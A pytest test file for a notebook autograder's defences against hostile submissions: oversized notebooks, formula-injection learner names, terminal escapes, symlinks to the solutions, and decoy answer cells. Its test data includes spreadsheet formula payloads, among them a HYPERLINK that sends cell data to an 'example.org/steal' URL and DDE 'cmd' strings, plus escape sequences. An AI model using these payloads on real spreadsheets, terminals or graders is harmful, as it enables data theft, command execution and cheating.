"""The grader against hostile inputs that run no learner code: notebooks too big to plan, names that
are spreadsheet formulas or terminal escapes, symbolic links, and duplicated or hidden cells.

Each test is an attack from the red team's report (or its nearest honest cousin) and fails if the
defence is taken away. Nothing here is timed: the cost of planning is measured by counting the
Python lines it executes (deterministic), and its speed in seconds by ``benchmarks/planning.py``.
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import re
import sys
from collections.abc import Callable
from pathlib import Path

import nbformat
import pytest
from grading_submissions import ANSWER_CELLS, SOLUTIONS, masking, notebook, write_learner
from markdown_view import shown
from test_grading_hostile import load, run_cli

from lessonlib import cli
from lessonlib.exercises import cells
from lessonlib.exercises.cells import MAX_CODE_CHARS, MAX_STATEMENTS, slice_cells, statement_bound
from lessonlib.grading import records as r
from lessonlib.grading.gradescope.autograder import run_autograder
from lessonlib.grading.isolation.sandbox import Isolation, Limits
from lessonlib.grading.lms import submissions
from lessonlib.grading.lms.downloads import Unattributed, find_learners
from lessonlib.grading.lms.roster import lms_import_text, match, read_roster
from lessonlib.grading.lms.submissions import discover
from lessonlib.grading.reports.gradebook import write_gradebook
from lessonlib.grading.reports.safe_text import FORMULA_STARTS, csv_cell, csv_value
from lessonlib.grading.run import plans as planning
from lessonlib.grading.run.notebooks import CourseNotebook, course_notebooks, read_notebook
from lessonlib.grading.run.plans import plan_notebook
from lessonlib.grading.run.progress import Progress
from lessonlib.grading.store.manual import Mark, read_manual, write_manual

COURSES = course_notebooks()
MASKING = next(c for c in COURSES if c.name == "02_masking.ipynb")
INTERPRETATION = next(c for c in COURSES if c.manual)


def _answer(expression: str) -> str:
    return f"def masked_softmax(scores, allowed):\n    return {expression}"


# --- row 2: planning is linear and bounded ---------------------------------------------------------

# Generated worst cases (as in benchmarks/planning.py): helper cells and the answer that reads them.
def _same_name(n: int) -> tuple[list[str], str]:
    return ["\n".join(["x = 1"] * n)], _answer("x")


def _chain(n: int) -> tuple[list[str], str]:
    lines = ["c0 = g(1)"] + [f"c{i} = g(c{i - 1})" for i in range(1, n)]
    return ["def g(x):\n    return x", "\n".join(lines)], _answer(f"c{n - 1}")


def _many_cells(n: int) -> tuple[list[str], str]:
    return [f"k{i} = np.sqrt({i})" for i in range(n)], _answer(f"k{n - 1}")


def _fan_in(n: int) -> tuple[list[str], str]:
    half = n // 2
    values = "\n".join(f"f{i} = np.sqrt({i})" for i in range(half))
    helper = "def helper():\n    return (" + ", ".join(f"f{i}" for i in range(half)) + ",)"
    changes = "T = []\n" + "\n".join(f"T.append({i})" for i in range(n - half))
    return [values, helper, changes], _answer("helper() + tuple(T)")


SHAPES: dict[str, Callable[[int], tuple[list[str], str]]] = {
    "same name": _same_name, "chain": _chain, "many cells": _many_cells, "fan-in": _fan_in,
}


def _lines_run(function: Callable[[], object]) -> int:
    """How many Python lines ``function`` executes, in every module (a count, not a time)."""
    count = 0

    def tracer(frame, event, arg):  # noqa: ANN001, ANN202
        nonlocal count
        if event == "line":
            count += 1
        return tracer

    old = sys.gettrace()
    sys.settrace(tracer)
    try:
        function()
    finally:
        sys.settrace(old)
    return count


@pytest.mark.parametrize("shape", SHAPES)
def test_slicing_work_grows_linearly_with_the_notebook(shape: str) -> None:
    """The red team's notebooks took 21 s (8,000 ``x = 1``) and 62 s (8,000 dependent assignments)
    per exercise: the slicer scanned every statement for every name it followed. Doubling the
    notebook must now about double the work, not quadruple it."""
    def work(n: int) -> int:
        extra, answer = SHAPES[shape](n)
        sources = extra + [answer]
        return _lines_run(lambda: slice_cells(sources, len(extra), "masked_softmax"))

    small, large = work(300), work(600)
    assert large < 2.3 * small, f"{shape}: {small} lines run for 300 statements, {large} for 600"


def _reference(statements: list[tuple[set[str], set[str], set[str], bool]], needed: set[str]) -> set[int]:
    """The slicer's rule, written as plainly as possible: from the names the answer reads, take every
    statement that binds or changes one, then the names it reads, until nothing changes; and every
    definition. Each statement: (binds, changes, uses, is a definition)."""
    needed = set(needed)
    while True:
        reached = {k for k, (b, c, _, _) in enumerate(statements) if (b | c) & needed}
        more = set().union(*(statements[k][2] for k in reached)) if reached else set()
        if more <= needed:
            return reached | {k for k, s in enumerate(statements) if s[3]}
        needed |= more


@pytest.mark.parametrize("seed", range(12))
def test_the_slicer_keeps_exactly_what_the_answer_reaches(seed: int) -> None:
    """Random notebooks of one statement a line: the kept lines are the reference's, no more, no less."""
    rng = random.Random(seed)
    names = [f"v{i}" for i in range(12)]
    statements, sources = [], []
    for _ in range(rng.randint(5, 30)):
        target, read = rng.choice(names), rng.sample(names, rng.randint(0, 3))
        kind = rng.choice(["call", "constant", "append", "def"])
        if kind == "call":
            sources.append(f"{target} = f({', '.join(read)})")
            statements.append(({target}, set(), set(read) | {"f"}, False))
        elif kind == "constant":
            sources.append(f"{target} = 3")
            statements.append(({target}, set(), set(), True))
        elif kind == "append":
            sources.append(f"{target}.append({', '.join(read)})")
            statements.append((set(), {target}, set(read) | {target}, False))
        else:
            sources.append(f"def h_{target}():\n    return ({', '.join(read + ['0'])},)")
            statements.append(({f"h_{target}"}, set(), set(read), True))
    cells_ = ["def f(*a):\n    return a"] + sources
    answer = _answer(f"({', '.join(rng.sample(names, 2))}, h_{rng.choice(names)}())")
    cut = slice_cells(cells_ + [answer], len(cells_), "masked_softmax")
    expected = {k + 1 for k in _reference(statements, cells.uses(answer) - {"masked_softmax"})} | {0}
    assert {i for i in cut.kept if i != len(cells_)} == expected


def _planned(tmp_path: Path, extra: list[str], answer: str, course: CourseNotebook = MASKING
             ) -> list[planning.ExercisePlan]:
    nb = notebook(course.name, answers={"masked_softmax": answer} if course is MASKING else None)
    nb.cells[3:3] = [nbformat.v4.new_code_cell(src) for src in extra]
    path = tmp_path / course.name
    nbformat.write(nb, path)
    return plan_notebook(course, read_notebook(path))[0]


def _statements_in(tmp_path: Path) -> int:
    return sum(statement_bound(c.source) for c in read_notebook(next(tmp_path.glob("*.ipynb"))).cells
               if c.cell_type == "code")


def test_a_notebook_at_the_statement_cap_is_planned(tmp_path: Path) -> None:
    _planned(tmp_path, *_chain(10))
    n = 10 + MAX_STATEMENTS - _statements_in(tmp_path)  # the notebook's own code counts too
    plans = {p.exercise: p for p in _planned(tmp_path, *_chain(n))}
    assert _statements_in(tmp_path) == MAX_STATEMENTS
    plan = plans["masked_softmax"]
    assert plan.status is None and not plan.notes
    program = "\n".join(step.source for step in plan.program)
    assert f"c{n - 1} = g(c{n - 2})" in program and "c0 = g(1)" in program  # the whole chain runs


def test_a_notebook_over_the_statement_cap_is_refused_before_any_parsing(tmp_path: Path, monkeypatch) -> None:
    _planned(tmp_path, *_chain(10))
    n = 11 + MAX_STATEMENTS - _statements_in(tmp_path)

    def no_parsing(*args: object, **kwargs: object) -> None:
        raise AssertionError("a notebook over the cap was parsed")

    monkeypatch.setattr(planning, "parse_cell", no_parsing)
    monkeypatch.setattr(cells, "parse", no_parsing)
    plans = _planned(tmp_path, *_chain(n))
    assert {p.status for p in plans} == {"too_long"}
    reason = plans[0].reason
    assert f"{MAX_STATEMENTS + 1:,} lines of code" in reason and f"at most {MAX_STATEMENTS:,}" in reason
    assert reason.startswith("02_masking.ipynb was not graded") and "hand this one in again" in reason


def test_a_notebook_with_too_many_characters_of_code_is_refused(tmp_path: Path) -> None:
    long_line = "data = [" + ", ".join(["1.0"] * (MAX_CODE_CHARS // 5)) + "]"  # one line, few statements
    plans = _planned(tmp_path, [long_line], _answer("data"))
    assert {p.status for p in plans} == {"too_long"}
    assert "characters of code" in plans[0].reason and f"at most {MAX_CODE_CHARS:,}" in plans[0].reason


def test_written_answers_of_a_notebook_too_long_to_plan_are_still_read(tmp_path: Path) -> None:
    nb = notebook(INTERPRETATION.name)
    nb.cells.insert(3, nbformat.v4.new_code_cell("\n".join(["x = 1"] * (MAX_STATEMENTS + 1))))
    nbformat.write(nb, tmp_path / INTERPRETATION.name)
    plans, answers = plan_notebook(INTERPRETATION, read_notebook(tmp_path / INTERPRETATION.name))
    assert {p.status for p in plans} == {"too_long"}
    assert [a.status for a in answers] == ["needs_manual_grading"]


# --- row 9: output that is safe to open ----------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://example.org/steal?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
MOODLE_HEADER = ("Identifier,Full name,Email address,Status,Grade,Maximum Grade,Grade can be changed,"
                 "Last modified (submission),Last modified (grade),Feedback comments\n")


def _cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def _formula_cells(path: Path) -> list[str]:
    """Cells a spreadsheet would run: they begin with = + - @, a tab or a carriage return and are
    neither a number nor a lone character."""
    return [cell for row in _cells(path)[1:] for cell in row
            if len(cell) > 1 and cell[0] in "=+-@\t\r" and not re.fullmatch(r"[+-]?\d+(\.\d*)?", cell)]


@pytest.mark.parametrize("value", FORMULAS + ["'=already quoted", "''@twice", "plain", "-", "=", "", "'"])
def test_csv_cells_round_trip_and_never_start_a_formula(value: str) -> None:
    cell = csv_cell(value)
    assert csv_value(cell) == value
    assert not (len(cell) > 1 and cell[0] in FORMULA_STARTS)  # a lone "-" (Moodle's empty date) may stay


@pytest.mark.parametrize("number", ["-1.5", "+3", "-0", "2.5e-3", "-.5", "12"])
def test_numbers_stay_numbers_for_the_lms_importer(number: str) -> None:
    assert csv_cell(number) == number and csv_value(number) == number


def _hostile_results() -> list[r.LearnerResult]:
    results = []
    for i, name in enumerate(FORMULAS[:2]):
        failed = r.ExerciseGrade("02_masking.ipynb", "masked_softmax", 1.0, 3.0, "cell_error",
                                 "-ValueError: =cmd|' /C calc'!A0", "reason")
        written = r.ExerciseGrade("05_interpretation.ipynb", "q2_attention_not_causal", None, 4.0,
                                  "needs_manual_grading", kind="manual", answer_text="An answer.")
        results.append(r.LearnerResult(name, submissions.safe_key(name), "f", "bubblewrap", "now",
                                       [failed, written], lms_id=f"{1001 + i}"))
    return results


def test_names_in_grades_and_summary_are_neutralised(tmp_path: Path) -> None:
    """Moodle full names are formulas: written as is, a spreadsheet runs them when the file opens."""
    write_gradebook(tmp_path, _hostile_results(), Isolation("bubblewrap", "s"), Limits(cpu_seconds=2), 2,
                    unattributed=[Unattributed(Path("=cmd|' /C calc'!A0.ipynb"), "not named as Canvas names")])
    for name in ("grades.csv", "summary.csv", "manual.csv"):
        assert _formula_cells(tmp_path / name) == [], name
    with open(tmp_path / "grades.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [row["name"] for row in rows[::2]] == ["'" + name for name in FORMULAS[:2]]
    assert rows[0]["points"] == "1" and rows[0]["diagnosis"].startswith("'-ValueError")
    summary = _cells(tmp_path / "summary.csv")
    assert summary[1][1:4] == ["'" + FORMULAS[0], "1", "7"]  # points stay numbers


def test_manual_csv_reads_back_what_was_written(tmp_path: Path) -> None:
    """The instructor's own rubric and comment may begin with '-' or '='; the learner key may begin
    with '@' (safe_key keeps it): the round trip through manual.csv keeps every one of them."""
    results = _hostile_results()
    key = results[1].key
    assert key.startswith("@")
    mark = Mark(key, "q2_attention_not_causal", 3.0, "-1: no test of the causal claim", "=well argued", 2)
    write_manual(tmp_path, results, {(key, "q2_attention_not_causal"): mark})
    assert _formula_cells(tmp_path / "manual.csv") == []
    back = read_manual(tmp_path / "manual.csv", results)
    got = back[key, "q2_attention_not_causal"]
    assert (got.points, got.rubric, got.comment) == (3.0, mark.rubric, mark.comment)


def test_lms_import_neutralises_names_and_keeps_grades_and_moodle_dashes(tmp_path: Path) -> None:
    path = tmp_path / "worksheet.csv"
    with open(path, "w", newline="", encoding="utf-8") as f:
        f.write(MOODLE_HEADER)
        writer = csv.writer(f, lineterminator="\n")
        for i, name in enumerate(FORMULAS[:2]):
            writer.writerow([f"Participant {1001 + i}", name, "x@example.org", "Submitted", "", "100.00", "Yes",
                             "-", "-", ""])
    roster = read_roster(path, None)
    text = lms_import_text(roster, match(roster, _hostile_results()), 7.0, partial=True)  # grades shown
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["Full name"] for row in rows] == ["'" + name for name in FORMULAS[:2]]
    assert [row["Grade"] for row in rows] == ["14.29", "14.29"] and rows[0]["Last modified (grade)"] == "-"
    (tmp_path / "lms-import.csv").write_text(text, encoding="utf-8")
    assert _formula_cells(tmp_path / "lms-import.csv") == []
    again = read_roster(tmp_path / "lms-import.csv", None)  # the import file read back as a roster
    assert [row["Full name"] for row in again.rows] == FORMULAS[:2]


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


ESCAPES = "mallory\x1b]0;owned\x07\x1b[2J\x1b[1A\r\u202eevil\x9b31m"


@pytest.mark.parametrize("stream", [io.StringIO, _Terminal])
def test_progress_lines_show_control_characters_escaped(stream: type[io.StringIO]) -> None:
    out = stream()
    progress = Progress(out)
    progress.total = 1
    progress.running(ESCAPES)
    grade = r.ExerciseGrade("02_masking.ipynb", "masked_softmax", 0.0, 3.0, "timeout")
    progress.done(r.LearnerResult(ESCAPES, "mallory", "f", "limits", "now", [grade]))
    progress.close()
    text = out.getvalue()
    own = text.replace("\r\x1b[K", "")  # the progress bar's own "go to the line start and clear it"
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", own), repr(own)
    assert "mallory\\x1b]0;owned\\x07\\x1b[2J\\x1b[1A\\x0d\\u202eevil\\x9b31m: 0/3 points" in text


def test_cli_messages_escape_what_they_quote(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    missing = tmp_path / "\x1b[2Jgone"
    assert cli.main(["grade", str(missing), "--out", str(tmp_path / "out"), "--quiet"]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\\x1b[2Jgone: no such notebook, zip or folder" in err


# --- row 10: symbolic links are refused everywhere ----------------------------------------------------


def _by_name(learners: list[submissions.Learner]) -> dict[str, submissions.Learner]:
    return {lr.name: lr for lr in learners}


def test_a_learner_folder_that_is_a_link_to_the_solutions_is_refused(tmp_path: Path) -> None:
    """The red team's mallory -> solutions/ scored 28/28 and her feedback quoted the model answer."""
    write_learner(tmp_path / "class" / "amy", masking())
    (tmp_path / "class" / "mallory").symlink_to(SOLUTIONS, target_is_directory=True)
    found = _by_name(find_learners([tmp_path / "class"], COURSES).learners)
    assert found["mallory"].files == {}
    assert found["mallory"].notes == ["mallory is a symbolic link; links are not followed, so it was not graded."]
    assert list(found["amy"].files) == ["02_masking.ipynb"]


def test_folder_and_file_arguments_that_are_links_are_refused(tmp_path: Path) -> None:
    (tmp_path / "mallory").symlink_to(SOLUTIONS, target_is_directory=True)
    (tmp_path / "eve_02_masking.ipynb").symlink_to(SOLUTIONS / "02_masking.ipynb")
    found = _by_name(find_learners([tmp_path / "mallory", tmp_path / "eve_02_masking.ipynb"], COURSES).learners)
    assert found["mallory"].files == {} and "mallory is a symbolic link" in found["mallory"].notes[0]
    assert found["eve_02_masking"].files == {} and "links are not followed" in found["eve_02_masking"].notes[0]


def test_links_in_a_moodle_download_are_refused(tmp_path: Path) -> None:
    folder = tmp_path / "moodle"
    write_learner(folder / "Bob Smith_1001_assignsubmission_file_", masking())
    (folder / "Eve Evil_1002_assignsubmission_file_").symlink_to(SOLUTIONS, target_is_directory=True)
    (folder / "Bob Smith_1001_assignsubmission_file_" / "03_position.ipynb").symlink_to(
        SOLUTIONS / "03_position.ipynb")
    (folder / "elsewhere").symlink_to(SOLUTIONS, target_is_directory=True)
    found = find_learners([folder], COURSES)
    learners = {lr.lms_id: lr for lr in found.learners}
    assert learners["1002"].files == {} and "symbolic link" in learners["1002"].notes[0]
    assert list(learners["1001"].files) == ["02_masking.ipynb"]
    assert "03_position.ipynb is a symbolic link" in learners["1001"].notes[0]
    assert [(u.path.name, u.reason) for u in found.unattributed] == [
        ("elsewhere", "a symbolic link (links are not followed)")]


def test_a_notebook_swapped_for_a_link_or_a_fifo_is_not_read(tmp_path: Path) -> None:
    link = tmp_path / "02_masking.ipynb"
    link.symlink_to(SOLUTIONS / "02_masking.ipynb")
    assert read_notebook(link).problem == "it is a symbolic link, and links are not followed"
    fifo = tmp_path / "03_position.ipynb"
    os.mkfifo(fifo)  # opening it for reading would wait for a writer forever
    assert read_notebook(fifo).problem == "it is not a regular file"
    (learner,) = discover([tmp_path], COURSES)
    assert learner.files == {}
    assert sorted(learner.notes) == ["02_masking.ipynb is a symbolic link; links are not followed, so it was not "
                                     "graded.", "03_position.ipynb is not a regular file; it was not graded."]


def test_gradescope_says_which_files_it_left_out(tmp_path: Path) -> None:
    (tmp_path / "submission" / "work").mkdir(parents=True)
    (tmp_path / "submission" / "work" / "02_masking.ipynb").symlink_to(SOLUTIONS / "02_masking.ipynb")
    results = json.loads(run_autograder(tmp_path).read_text())
    assert results["score"] == 0
    assert "work/02_masking.ipynb is a symbolic link; links are not followed" in shown(results["output"])


# --- row 11: answer cells by their tag, duplicated ids, every skipped file listed -------------------------


def _notebook_json(nb: nbformat.NotebookNode, path: Path) -> Path:
    """Written as JSON, as a learner's file may be: nbformat would repair the duplicated ids."""
    path.write_text(json.dumps(nb), encoding="utf-8")
    return path


def _decoy_notebook() -> nbformat.NotebookNode:
    """The masking notebook with, before the real (tagged) answer, an untagged cell carrying the same
    id and a wrong answer: the decoy the red team saw graded."""
    nb = notebook("02_masking.ipynb")
    at = next(i for i, c in enumerate(nb.cells) if c.get("id") == ANSWER_CELLS["masked_softmax"])
    decoy = nbformat.v4.new_code_cell("def masked_softmax(scores, allowed):\n    return scores * 0")
    decoy["id"] = ANSWER_CELLS["masked_softmax"]
    nb.cells.insert(at, decoy)
    return nb


def test_the_tagged_answer_cell_is_graded_and_a_duplicated_id_is_noted(tmp_path: Path) -> None:
    path = _notebook_json(_decoy_notebook(), tmp_path / "02_masking.ipynb")
    plans = {p.exercise: p for p in plan_notebook(MASKING, read_notebook(path))[0]}
    plan = plans["masked_softmax"]
    answer = next(step for step in plan.program if step.label == "answer")
    assert "scores * 0" not in answer.source and "def masked_softmax" in answer.source
    assert any(f"carry the answer cell's id `{ANSWER_CELLS['masked_softmax']}`, which should be unique" in note
               for note in plan.notes), plan.notes
    assert not plans["causal_mask"].notes  # the other exercises are untouched


def test_of_several_tagged_answers_the_last_is_graded_as_check_sees_it(tmp_path: Path) -> None:
    nb = notebook("02_masking.ipynb")
    at = next(i for i, c in enumerate(nb.cells) if c.get("id") == ANSWER_CELLS["causal_mask"])
    later = nbformat.v4.new_code_cell("def causal_mask(length):\n    return 'second version'",
                                      metadata={"tags": ["answer"]})
    nb.cells.insert(at + 1, later)
    nb.cells[at]["id"] = "renamed-by-a-tool"
    plan = {p.exercise: p for p in plan_notebook(MASKING, read_notebook(
        _notebook_json(nb, tmp_path / "02_masking.ipynb")))[0]}["causal_mask"]
    answer = next(step for step in plan.program if step.label == "answer")
    assert "second version" in answer.source
    assert "2 cells tagged `answer` define `causal_mask`" in plan.notes[0]


def test_every_entry_of_a_learner_folder_that_is_not_graded_is_listed(tmp_path: Path) -> None:
    folder = write_learner(tmp_path / "amy", {**masking(), ".03_position.ipynb": notebook("03_position.ipynb")})
    (folder / "notes.txt").write_text("my notes\n")
    (folder / ".ipynb_checkpoints").mkdir()
    (folder / "old").mkdir()
    (amy,) = discover([folder], COURSES)
    assert list(amy.files) == ["02_masking.ipynb"]
    assert sorted(amy.notes) == [
        ".03_position.ipynb was not graded: its name starts with a dot, which hides it (rename it to have it "
        "graded).",
        ".ipynb_checkpoints was not graded: its name starts with a dot, which hides it.",
        "notes.txt is not a notebook; it was not graded.",
        "old/ is a folder with no notebook in it for the grader (empty, or deeper than 3 folders).",
    ]


def test_hidden_notebooks_in_an_lms_download_are_listed(tmp_path: Path) -> None:
    folder = tmp_path / "moodle"
    write_learner(folder / "Bob Smith_1001_assignsubmission_file_", {
        **masking(), ".03_position.ipynb": notebook("03_position.ipynb")})
    write_learner(folder, {".Eve_1002_assignsubmission_file_02_masking.ipynb": notebook("02_masking.ipynb")})
    found = find_learners([folder], COURSES)
    (bob,) = found.learners
    assert any(note.startswith(".03_position.ipynb was not graded") for note in bob.notes)
    assert [u.path.name for u in found.unattributed] == [".Eve_1002_assignsubmission_file_02_masking.ipynb"]


# --- the attacks of rows 10 and 11 through the command, in one small batch ----------------------------------


def test_links_decoys_and_hidden_files_through_the_command(tmp_path: Path) -> None:
    subs, out = tmp_path / "submissions", tmp_path / "gradebook"
    amy = write_learner(subs / "amy", {".01_scaling.ipynb": notebook("01_scaling.ipynb")})
    _notebook_json(_decoy_notebook(), amy / "02_masking.ipynb")
    (amy / "03_position.ipynb").symlink_to(SOLUTIONS / "03_position.ipynb")
    (subs / "mallory").symlink_to(SOLUTIONS, target_is_directory=True)
    (tmp_path / "eve_04_cost.ipynb").symlink_to(SOLUTIONS / "04_cost.ipynb")
    run_cli([subs, tmp_path / "eve_04_cost.ipynb"], out, "--workers", "1")
    data, rows = load(out)
    learners = {lr["learner"]: lr for lr in data["learners"]}
    for name in ("mallory", "eve_04_cost"):
        assert learners[name]["points"] == 0
        assert {g["status"] for g in learners[name]["exercises"]} == {"not_submitted"}
        feedback = shown((out / "feedback" / f"{name}.md").read_text())
        assert "links are not followed" in feedback and "Model answer" not in feedback
    grades = {g["exercise"]: g for g in learners["amy"]["exercises"]}
    assert grades["masked_softmax"]["status"] == "passed", grades["masked_softmax"]["reason"]
    assert grades["sinusoidal_positions"]["status"] == "not_submitted"  # the link was not followed
    feedback = shown((out / "feedback" / "amy.md").read_text())
    for said in ("which should be unique", ".01_scaling.ipynb was not graded",
                  "03_position.ipynb is a symbolic link; links are not followed"):
        assert said in feedback, said
